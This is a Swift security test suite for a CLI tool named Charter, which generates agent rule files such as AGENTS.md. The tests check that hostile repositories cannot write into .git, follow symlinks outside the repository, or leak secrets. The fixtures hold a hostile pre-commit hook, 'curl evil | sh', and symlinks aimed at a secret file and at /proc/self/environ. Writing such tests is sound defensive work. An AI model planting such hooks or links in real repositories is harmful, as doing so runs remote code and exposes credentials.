import Foundation
import Testing

/// Every attack a repository's own files can make on the person who runs Charter on it (a
/// pull request, a fork, a cloned sample), run against the built binary. Each test asserts
/// that nothing in `.git`, nothing outside the repository and nothing behind a refused link
/// changed, and that nothing from outside the repository was printed.
/// `Documentation/Security.md` states the guarantees these enforce.
@Suite struct SecurityTests {
  /// The secret kept outside the repository; no run may print it.
  static let secret = "TOKEN=ghp_secret_value_0123456789"
  /// The hook a person installed; no run may change it.
  static let hook = "#!/bin/sh\n# Installed by `charter hook install`; `charter hook uninstall` removes it\nexit 0\n"

  /// A repository with an executable pre-commit hook, a git config and agent targets, and a
  /// folder outside it holding a secret.
  final class Hostile: @unchecked Sendable {
    let repository: Sandbox
    let outside: Sandbox
    var root: URL { repository.url }

    init(_ files: [String: String], gitConfig: String = "[core]\n\trepositoryformatversion = 0\n") throws {
      var all = files
      all[".git/HEAD"] = "ref: refs/heads/main\n"
      all[".git/config"] = gitConfig
      all[".git/hooks/pre-commit"] = SecurityTests.hook
      if all[".charter/config.yml"] == nil { all[".charter/config.yml"] = "packs: []\ntargets: [agents, gemini]\n" }
      repository = try Sandbox(all)
      outside = try Sandbox(["secret.env": SecurityTests.secret + "\n", "charter/generated.json": "{\"theirs\": true}\n"])
      try FileManager.default.setAttributes(
        [.posixPermissions: 0o755], ofItemAtPath: root.appendingPathComponent(".git/hooks/pre-commit").path)
    }

    /// Runs `charter arguments…` in the repository.
    func charter(_ arguments: String..., environment: [String: String] = [:]) throws -> CharterProcess.Result {
      try CharterProcess.run(arguments, in: root, environment: environment)
    }

    /// A link at `path` in the repository to `target`.
    func link(_ path: String, to target: String) throws {
      let url = root.appendingPathComponent(path)
      try FileManager.default.createDirectory(at: url.deletingLastPathComponent(), withIntermediateDirectories: true)
      try FileManager.default.createSymbolicLink(atPath: url.path, withDestinationPath: target)
    }

    /// Every file below `folder` with its bytes and mode: what must not change.
    static func snapshot(_ folder: URL) -> [String: String] {
      var result: [String: String] = [:]
      guard let enumerator = FileManager.default.enumerator(atPath: folder.path) else { return result }
      for case let path as String in enumerator {
        let full = folder.appendingPathComponent(path).path
        let attributes = try? FileManager.default.attributesOfItem(atPath: full)
        let mode = (attributes?[.posixPermissions] as? Int).map { String($0, radix: 8) } ?? "?"
        let data = FileManager.default.contents(atPath: full).map { String(decoding: $0, as: UTF8.self) } ?? "<folder>"
        result[path] = mode + " " + data
      }
      return result
    }

    var gitSnapshot: [String: String] { Self.snapshot(root.appendingPathComponent(".git")) }
    var outsideSnapshot: [String: String] { Self.snapshot(outside.url) }
  }

  /// Runs `body`, then asserts that `.git` and the outside folder are as they were and that
  /// no output printed the secret.
  static func expectConfined(_ hostile: Hostile, _ body: () throws -> [CharterProcess.Result]) throws {
    let git = hostile.gitSnapshot
    let outside = hostile.outsideSnapshot
    let results = try body()
    #expect(hostile.gitSnapshot == git, ".git must not change")
    #expect(hostile.outsideSnapshot == outside, "nothing outside the repository may change")
    for result in results {
      #expect(!result.stdout.contains("ghp_secret") && !result.stderr.contains("ghp_secret"), "the secret was printed")
    }
  }

  // MARK: - Writes into .git

  /// `install-to: [.git]` with a skill named `hooks` would write `.git/hooks/pre-commit`.
  /// Every spelling of `.git` is an error at its line and column.
  @Test(arguments: [".git", ".GIT", "./.git", ".git/", "sub/.git", ".git.", ".Git ", "git~1", ".g\u{200C}it"])
  func skillsCannotBeInstalledIntoGit(_ folder: String) throws {
    let hostile = try Hostile([
      ".charter/config.yml": "packs: []\ntargets: [agents]\nskills:\n  install-to: [\"\(folder)\"]\n",
      ".charter/skills/hooks/SKILL.md": "---\nname: hooks\ndescription: Hooks.\n---\nBody.\n",
      ".charter/skills/hooks/pre-commit": "#!/bin/sh\ncurl evil | sh\n",
    ])
    try Self.expectConfined(hostile) {
      let compose = try hostile.charter("compose")
      #expect(compose.status == 2)
      #expect(compose.stderr.contains(".charter/config.yml:4:16: error: 'install-to' entry"), "\(compose.stderr)")
      return [compose]
    }
  }

  /// A fragment scoped to `.git/**` would make compose write `.git/AGENTS.md`: its glob is an
  /// error at its position.
  @Test(arguments: [".git/**", "/.git/**", ".GIT/**", "vendor/.git/**"])
  func aFragmentCannotBeScopedIntoGit(_ glob: String) throws {
    let hostile = try Hostile([".charter/rules/evil.md": "---\nid: evil\nglobs: [\"\(glob)\"]\n---\n# Evil\n\n- Text.\n"])
    try Self.expectConfined(hostile) {
      let compose = try hostile.charter("compose")
      #expect(compose.status == 2)
      #expect(compose.stderr.contains(".charter/rules/evil.md:3:9: error: glob '\(glob)' can only match inside a git metadata folder"))
      return [compose]
    }
  }

  /// A forged manifest entry with the right hash would make compose delete `.git/config` as an
  /// orphan, or overwrite the hook. It is ignored with a warning.
  @Test(arguments: [".git/config", ".git/hooks/pre-commit", ".GIT/config", "sub/.git/config"])
  func aForgedManifestEntryInGitIsIgnored(_ path: String) throws {
    let hostile = try Hostile([".charter/rules/a.md": "---\nid: a\n---\n# A\n\n- Text.\n"])
    let content = path.hasSuffix("pre-commit") ? Self.hook : "[core]\n\trepositoryformatversion = 0\n"
    try Self.forgeManifest(hostile, path: path, target: "agents", content: content)
    try Self.expectConfined(hostile) {
      let compose = try hostile.charter("compose")
      #expect(compose.status == 0)
      #expect(compose.stderr.contains("\(path):1:1: warning: the compose manifest names this path, which compose never touches"))
      return [compose]
    }
  }

  /// A forged entry for a file the target never writes (README.md for `agents`), with the
  /// right hash, is ignored: compose deletes only what it could have produced.
  @Test func aForgedManifestEntryForAnotherFileIsIgnored() throws {
    let hostile = try Hostile([".charter/rules/a.md": "---\nid: a\n---\n# A\n\n- Text.\n", "README.md": "# Ours\n"])
    try Self.forgeManifest(hostile, path: "README.md", target: "agents", content: "# Ours\n")
    let compose = try hostile.charter("compose")
    #expect(compose.status == 0)
    #expect(compose.stderr.contains("README.md:1:1: warning: the compose manifest names this file for target 'agents', which never writes it"))
    #expect(FileManager.default.contents(atPath: hostile.root.appendingPathComponent("README.md").path) == Data("# Ours\n".utf8))
  }

  /// With `core.hooksPath` pointing inside the work tree (relative or absolute), compose never
  /// writes there, and a forged entry for the hook there is ignored.
  @Test(arguments: [false, true])
  func theHooksFolderIsRefused(_ absolute: Bool) throws {
    let hostile = try Hostile(
      [
        ".charter/config.yml": "packs: []\ntargets: [agents]\nskills:\n  install-to: [.githooks]\n",
        ".charter/skills/pre-commit/SKILL.md": "---\nname: pre-commit\ndescription: Hooks.\n---\nBody.\n",
        ".githooks/post-merge": Self.hook,
      ], gitConfig: "[core]\n\thooksPath = .githooks\n")
    if absolute {
      let config = hostile.root.appendingPathComponent(".git/config")
      try "[core]\n\thooksPath = \"\(hostile.root.path)/.githooks\"\n".write(to: config, atomically: true, encoding: .utf8)
    }
    try Self.forgeManifest(hostile, path: ".githooks/post-merge", target: "skills", content: Self.hook)
    let before = Hostile.snapshot(hostile.root.appendingPathComponent(".githooks"))
    try Self.expectConfined(hostile) {
      let compose = try hostile.charter("compose")
      #expect(compose.status == 2)
      #expect(compose.stderr.contains("the path lies in the folder git runs hooks from (core.hooksPath)"), "\(compose.stderr)")
      return [compose]
    }
    #expect(Hostile.snapshot(hostile.root.appendingPathComponent(".githooks")) == before)
  }

  // MARK: - Writes outside the repository

  /// `.charter` itself a link to another repository's folder: an error; nothing is read from
  /// there or written there (its manifest stays as it was).
  @Test func aCharterFolderLinkedOutsideIsAnError() throws {
    let hostile = try Hostile([:])
    try FileManager.default.removeItem(at: hostile.root.appendingPathComponent(".charter"))
    try hostile.outside.write("charter/rules/a.md", "---\nid: a\n---\n# A\n\n- " + Self.secret + "\n")
    try hostile.link(".charter", to: hostile.outside.url.appendingPathComponent("charter").path)
    try Self.expectConfined(hostile) {
      var results: [CharterProcess.Result] = []
      for command in [["compose"], ["rules"], ["lint"], ["test"], ["init"]] {
        let result = try CharterProcess.run(command, in: hostile.root)
        #expect(result.status == 2, "\(command): \(result.stdout)\(result.stderr)")
        results.append(result)
      }
      #expect(results[0].stderr.contains(".charter:1:1: error: Charter will not read rules or write here"))
      return results
    }
    #expect(!FileManager.default.fileExists(atPath: hostile.root.appendingPathComponent("AGENTS.md").path))
  }

  /// A folder on the way to an output linked outside: compose refuses to write through it.
  @Test func anOutputFolderLinkedOutsideIsRefused() throws {
    let hostile = try Hostile([
      ".charter/config.yml": "packs: []\ntargets: [cursor]\n",
      ".charter/rules/a.md": "---\nid: a\nglobs: [\"**/*.swift\"]\n---\n# A\n\n- Text.\n",
    ])
    try hostile.link(".cursor", to: hostile.outside.url.path)
    try Self.expectConfined(hostile) {
      let compose = try hostile.charter("compose")
      #expect(compose.status == 2)
      #expect(compose.stderr.contains("a symbolic link on the way leads outside the repository"))
      return [compose]
    }
  }

  // MARK: - Secrets in logs

  /// A rule source linked to a file outside (a fragment, AGENTS.md, an `@` import, the
  /// config): refused by path; no command prints a line of it.
  @Test(arguments: [".charter/rules/secret.md", "AGENTS.md", "docs/imported.md", ".charter/config.yml"])
  func nothingOutsideIsQuoted(_ path: String) throws {
    var files = [".charter/rules/a.md": "---\nid: a\n---\n# A\n\n- Text.\n", "CLAUDE.md": "@docs/imported.md\n"]
    if path == ".charter/config.yml" { files[path] = nil }
    let hostile = try Hostile(files)
    if path == ".charter/config.yml" {
      try FileManager.default.removeItem(at: hostile.root.appendingPathComponent(path))
    }
    try hostile.link(path, to: hostile.outside.url.appendingPathComponent("secret.env").path)
    try Self.expectConfined(hostile) {
      var results: [CharterProcess.Result] = []
      for command in [["rules"], ["test"], ["compose", "--check"], ["lint"], ["explain", "CLAUDE.md"]] {
        results.append(try CharterProcess.run(command, in: hostile.root))
      }
      // Charter's own configuration stops the run; a repository's agent file is a warning.
      let ours = path.hasPrefix(".charter/")
      #expect(results[0].status == (ours ? 2 : 0))
      #expect(results[0].stderr.contains(path + ":1:1: " + (ours ? "error:" : "warning:")), "\(results[0].stderr)")
      return results
    }
  }

  /// The process environment (through `/proc/self/environ`) is never quoted either.
  @Test func theEnvironmentIsNeverQuoted() throws {
    let hostile = try Hostile(["CLAUDE.md": "@env.md\n"])
    try hostile.link("env.md", to: "/proc/self/environ")
    try hostile.link(".charter/rules/env.md", to: "/proc/self/environ")
    for command in [["rules"], ["test"], ["compose"], ["lint"]] {
      let result = try CharterProcess.run(command, in: hostile.root, environment: ["CHARTER_TEST_SECRET": "hunter2-ghp_secret"])
      #expect(!result.stdout.contains("hunter2") && !result.stderr.contains("hunter2"), "\(command)")
    }
  }

  /// A 5 MB line in a rule file is cut where a diagnostic quotes it.
  @Test func longLinesAreCut() throws {
    let long = String(repeating: "x", count: 5_000_000)
    let hostile = try Hostile([".charter/rules/a.md": "---\nid: a\nchecks: [" + long + "\n---\nBody.\n"])
    let rules = try hostile.charter("rules")
    #expect(rules.status == 2)
    #expect(rules.stderr.utf8.count < 4_000, "\(rules.stderr.utf8.count) bytes")
  }

  // MARK: - Skills

  /// `skills install PATH` with a link to a secret elsewhere installs nothing.
  @Test func skillsInstallRefusesLinksLeavingTheSkill() throws {
    let hostile = try Hostile(["src/tidy/SKILL.md": "---\nname: tidy\ndescription: Tidy.\n---\nBody.\n"])
    try hostile.link("src/tidy/secret.env", to: hostile.outside.url.appendingPathComponent("secret.env").path)
    try Self.expectConfined(hostile) {
      let install = try hostile.charter("skills", "install", "src/tidy")
      #expect(install.status == 2)
      #expect(install.stderr.contains("is a symbolic link that leads out of the skill folder"))
      return [install]
    }
    #expect(!FileManager.default.fileExists(atPath: hostile.root.appendingPathComponent(".charter/skills/tidy").path))
  }

  /// A skill folder in `.charter/skills` linked outside is not installed by compose.
  @Test func composeDoesNotInstallASkillLinkedOutside() throws {
    let hostile = try Hostile([".charter/config.yml": "packs: []\ntargets: [agents]\n"])
    try hostile.outside.write("skill/SKILL.md", "---\nname: skill\ndescription: S.\n---\n" + Self.secret + "\n")
    try hostile.link(".charter/skills/skill", to: hostile.outside.url.appendingPathComponent("skill").path)
    try Self.expectConfined(hostile) {
      let compose = try hostile.charter("compose")
      #expect(compose.stderr.contains(".charter/skills/skill:1:1: warning: Charter will not install this skill from here"))
      return [compose]
    }
    #expect(!FileManager.default.fileExists(atPath: hostile.root.appendingPathComponent(".agents/skills/skill").path))
  }

  /// A repository skill whose SKILL.md links to a file outside (here one with front matter
  /// that would be quoted in a validation message): never read by `rules`, `skills list` or
  /// `skills validate`, and refused by path when named.
  @Test func aSkillLinkedOutsideIsNeverRead() throws {
    let hostile = try Hostile([:])
    try hostile.outside.write("SKILL.md", "---\nname: " + Self.secret + "\ndescription: d\n---\nBody.\n")
    try hostile.link(".claude/skills/x/SKILL.md", to: hostile.outside.url.appendingPathComponent("SKILL.md").path)
    try Self.expectConfined(hostile) {
      // The walk never follows links; a path named on the command line is refused by path.
      let validate = try hostile.charter("skills", "validate", ".claude/skills/x")
      #expect(validate.status != 0)
      #expect(
        (validate.stdout + validate.stderr).contains(".claude/skills/x/SKILL.md:1:1: error: Charter will not read this skill here"),
        "\(validate.stdout)\(validate.stderr)")
      return [validate, try hostile.charter("rules"), try hostile.charter("skills", "list"), try hostile.charter("skills", "validate")]
    }
  }

  // MARK: - Two writers

  /// Three composes started at once, after the rules changed, settle: `--check` passes and no
  /// file is classed hand-edited.
  @Test func concurrentComposesSettle() async throws {
    var files: [String: String] = [".charter/config.yml": "packs: []\ntargets: [agents, claude, cursor, copilot, gemini, windsurf, cline, kiro, junie]\n"]
    for index in 0..<40 {
      files[".charter/rules/r\(index).md"] = "---\nid: r\(index)\nglobs: [\"Sources/M\(index)/**\"]\n---\n# R\(index)\n\n- Rule \(index).\n"
    }
    let hostile = try Hostile(files)
    #expect(try hostile.charter("compose").status == 0)
    for index in 0..<40 {
      try hostile.repository.write(".charter/rules/r\(index).md", "---\nid: r\(index)\nglobs: [\"Sources/M\(index)/**\"]\n---\n# R\(index)\n\n- Rule \(index), changed.\n")
    }
    let root = hostile.root
    let statuses = try await withThrowingTaskGroup(of: Int32.self) { group in
      for _ in 0..<3 { group.addTask { try CharterProcess.run(["compose"], in: root).status } }
      return try await group.reduce(into: [Int32]()) { $0.append($1) }
    }
    #expect(statuses == [0, 0, 0])
    let check = try hostile.charter("compose", "--check")
    #expect(check.status == 0, "\(check.stdout)")
    #expect(!check.stdout.contains("hand-edited"))
  }

  // MARK: - Markers

  /// A fragment holding compose's own markers: compose is idempotent and `--check` passes.
  @Test func forgedMarkersCannotMakeComposeGrowTheFile() throws {
    let hostile = try Hostile([
      ".charter/rules/a.md": "---\nid: a\n---\n# A\n\n- Text.\n<!-- charter:end -->\nafter\n<!-- charter:begin x -->\n",
      "AGENTS.md": "# Ours\n",
    ])
    let first = try hostile.charter("compose")
    #expect(first.status == 0)
    #expect(first.stderr.contains(".charter/rules/a.md:7:1: warning: this line starts like one of compose's own marker comments"))
    let agents = try String(contentsOf: hostile.root.appendingPathComponent("AGENTS.md"), encoding: .utf8)
    for _ in 0..<3 { #expect(try hostile.charter("compose").status == 0) }
    #expect(try String(contentsOf: hostile.root.appendingPathComponent("AGENTS.md"), encoding: .utf8) == agents)
    #expect(try hostile.charter("compose", "--check").status == 0)
    #expect(agents.contains("\n <!-- charter:end -->\nafter\n"))
  }

  /// `init --from-existing` never imports a stray marker line as a rule.
  @Test func importDropsStrayMarkerLines() throws {
    let hostile = try Hostile([
      ".charter/config.yml": "",
      "AGENTS.md": "# Ours\n\n- Use tabs.\n<!-- charter:end -->\n- Keep it short.\n",
    ])
    try FileManager.default.removeItem(at: hostile.root.appendingPathComponent(".charter"))
    let result = try hostile.charter("init", "--from-existing")
    #expect(result.status == 0, "\(result.stderr)")
    let fragments = try FileManager.default.contentsOfDirectory(atPath: hostile.root.appendingPathComponent(".charter/rules").path)
    for name in fragments {
      let text = try String(contentsOf: hostile.root.appendingPathComponent(".charter/rules/" + name), encoding: .utf8)
      #expect(!text.contains("<!-- charter:end"))
      #expect(text.contains("- Keep it short."))
    }
    #expect(try hostile.charter("compose", "--check").status == 0)
  }

  // MARK: - lint --fix and --output

  /// A `prefer` check with a `fix` and no globs matches its own `instead-of:` line: `--fix`
  /// corrects the code, never the rule file, unless a fragment names rule files by glob.
  @Test func fixNeverEditsRuleSources() throws {
    let rule = "---\nid: sleep\nchecks:\n  - id: sleep\n    prefer: Task.sleep\n    instead-of: Thread.sleep\n    fix: Task.sleep\n---\n# Sleep\n"
    let hostile = try Hostile([
      ".charter/rules/sleep.md": rule, "AGENTS.md": "Never call Thread.sleep here.\n",
      "Sources/A.swift": "func f() { Thread.sleep(1) }\n",
    ])
    let fix = try hostile.charter("lint", "--fix")
    #expect(try String(contentsOf: hostile.root.appendingPathComponent("Sources/A.swift"), encoding: .utf8) == "func f() { Task.sleep(1) }\n")
    #expect(try String(contentsOf: hostile.root.appendingPathComponent(".charter/rules/sleep.md"), encoding: .utf8) == rule)
    #expect(try String(contentsOf: hostile.root.appendingPathComponent("AGENTS.md"), encoding: .utf8) == "Never call Thread.sleep here.\n")
    #expect(fix.stderr.contains("lint --fix: corrected 1 file"), "\(fix.stderr)")
    // A fragment that names AGENTS.md by glob may fix it.
    try hostile.repository.write(
      ".charter/rules/agents.md",
      "---\nid: agents\nglobs: [\"AGENTS.md\"]\nchecks:\n  - id: sleep-doc\n    prefer: Task.sleep\n    instead-of: Thread.sleep\n    in: any\n    fix: Task.sleep\n---\n# Agents\n")
    _ = try hostile.charter("lint", "--fix")
    #expect(try String(contentsOf: hostile.root.appendingPathComponent("AGENTS.md"), encoding: .utf8) == "Never call Task.sleep here.\n")
    #expect(try String(contentsOf: hostile.root.appendingPathComponent(".charter/rules/sleep.md"), encoding: .utf8) == rule)
  }

  /// `--output` to a device (one of the test's own, like `/dev/null`) writes into it; the
  /// device is still a device afterwards.
  @Test func outputToADeviceWritesIntoIt() throws {
    let hostile = try Hostile(["Sources/A.swift": "let a = 1\n"])
    var null = stat()
    try #require(stat("/dev/null", &null) == 0)
    let device = hostile.outside.url.appendingPathComponent("null").path
    guard mknod(device, S_IFCHR | 0o666, null.st_rdev) == 0 else { return }  // needs root, as CI has
    for format in ["json", "sarif", "text"] {
      let lint = try hostile.charter("lint", "--format", format, "--output", device)
      #expect(lint.status == 0, "\(lint.stderr)")
      var after = stat()
      #expect(stat(device, &after) == 0 && after.st_mode & S_IFMT == S_IFCHR && after.st_rdev == null.st_rdev)
    }
  }

  // MARK: - Variants

  /// A folder inside the repository linked to `.git` (`docs` → `.git`): a path through it is
  /// inside git's metadata, whatever its spelling.
  @Test func aLinkIntoGitIsRefused() throws {
    let hostile = try Hostile([
      ".charter/config.yml": "packs: []\ntargets: [agents]\nskills:\n  install-to: [docs]\n",
      ".charter/skills/hooks/SKILL.md": "---\nname: hooks\ndescription: Hooks.\n---\nBody.\n",
      ".charter/skills/hooks/pre-commit": "#!/bin/sh\ncurl evil | sh\n",
    ])
    try hostile.link("docs", to: ".git")
    try Self.expectConfined(hostile) {
      let compose = try hostile.charter("compose")
      #expect(compose.status == 2)
      #expect(compose.stderr.contains("the path lies inside a git metadata folder"), "\(compose.stderr)")
      return [compose]
    }
  }

  /// Manifest paths spelled with `./`, `//` or `..` are not plain: ignored with a warning.
  @Test(arguments: ["./.git/config", ".//.git/config", "a/../.git/config", "/etc/passwd"])
  func manifestSpellingsAreIgnored(_ path: String) throws {
    let hostile = try Hostile([".charter/rules/a.md": "---\nid: a\n---\n# A\n\n- Text.\n"])
    try Self.forgeManifest(hostile, path: path, target: "agents", content: "[core]\n\trepositoryformatversion = 0\n")
    try Self.expectConfined(hostile) {
      let compose = try hostile.charter("compose")
      #expect(compose.status == 0)
      #expect(compose.stderr.contains("warning: the compose manifest names this path, which compose never touches"))
      return [compose]
    }
  }

  // MARK: - Helpers

  static func forgeManifest(_ hostile: Hostile, path: String, target: String, content: String) throws {
    let manifest = """
      {"version": 1, "files": {"\(path)": {"target": "\(target)", "ownership": "file", "created": true,
      "sha256": "\(sha256(content))"}}}
      """
    try hostile.repository.write(".charter/generated.json", manifest)
  }

  /// SHA-256 by `sha256sum`, independent of Charter's own implementation.
  static func sha256(_ text: String) -> String {
    let process = Process()
    process.executableURL = URL(fileURLWithPath: "/usr/bin/sha256sum")
    let input = Pipe()
    let output = Pipe()
    process.standardInput = input
    process.standardOutput = output
    try? process.run()
    input.fileHandleForWriting.write(Data(text.utf8))
    try? input.fileHandleForWriting.close()
    let data = output.fileHandleForReading.readDataToEndOfFile()
    process.waitUntilExit()
    return String(String(decoding: data, as: UTF8.self).prefix(64))
  }
}
